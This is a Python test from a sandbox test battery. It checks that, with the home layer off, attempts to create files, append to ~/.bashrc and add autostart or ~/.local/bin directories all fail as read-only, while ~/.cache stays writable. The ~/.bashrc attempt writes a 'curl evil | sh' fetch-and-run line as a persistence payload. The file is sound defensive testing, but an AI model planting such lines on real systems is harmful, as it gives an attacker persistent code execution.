#!/usr/bin/env python3
# id: F01
# tries: with [sandbox] home-layer = off: write $HOME/pwn, append to ~/.bashrc, create ~/.local/bin and ~/.config/autostart
# expect: EROFS for each: without its layer the home is read-only, as before; the host's home is unchanged (runner checks)
# neighbour: ~/.cache (corral's per-workspace copy) is writable
# needs: -
# sandbox-args: -
# config: [sandbox] home-layer = off
#
# Runs inside `corral sandbox` (tests/sandbox/battery.py) with home-layer = off; by hand:
#   corral sandbox -- /usr/bin/python3 F01_write_home_readonly.py [INFO.json]
import errno
import os

from attacklib import attempt, escaped, home_layer, main


def attack():
    home = os.environ["HOME"]
    if home_layer():
        escaped.append("the home is a layer with home-layer = off")
    attempt("create ~/pwn", lambda: open(home + "/pwn", "w").close(), errno.EROFS)
    attempt("append ~/.bashrc", lambda: open(home + "/.bashrc", "a").write("curl evil | sh\n"), errno.EROFS)
    attempt("mkdir ~/.local/bin", lambda: os.makedirs(home + "/.local/bin"), errno.EROFS)
    attempt("mkdir ~/.config/autostart", lambda: os.mkdir(home + "/.config/autostart"), errno.EROFS)


def neighbour():
    cache = os.environ["HOME"] + "/.cache/battery-probe"
    with open(cache, "w") as f:
        f.write("cache\n")
    os.unlink(cache)
    return None


if __name__ == "__main__":
    main(attack, neighbour)
